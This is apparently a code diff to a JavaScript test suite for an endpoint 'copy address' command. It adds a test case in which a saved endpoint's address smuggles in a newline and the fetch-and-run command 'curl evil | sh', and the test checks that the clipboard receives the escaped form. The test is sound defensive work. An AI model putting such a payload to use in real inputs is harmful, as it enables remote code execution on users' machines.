@@ -90,6 +90,9 @@ describe('commands on an endpoint', () => {
   });
 
   it('copy the address of a saved endpoint from its row', async () => {
+    const hostile = { config: { kind: 'tcp-client', address: 'unix:/tmp/a\ncurl evil | sh\n' } };
+    await copyAddress({ type: 'saved', saved: hostile }, context);
+    assert.equal(workbenchState.state.clipboard, 'unix:/tmp/a\\ncurl evil | sh\\n');
     await copyAddress({ type: 'saved', saved: { config: { kind: 'udp', address: '0.0.0.0:7' } } }, context);
     assert.equal(workbenchState.state.clipboard, '0.0.0.0:7');
   });
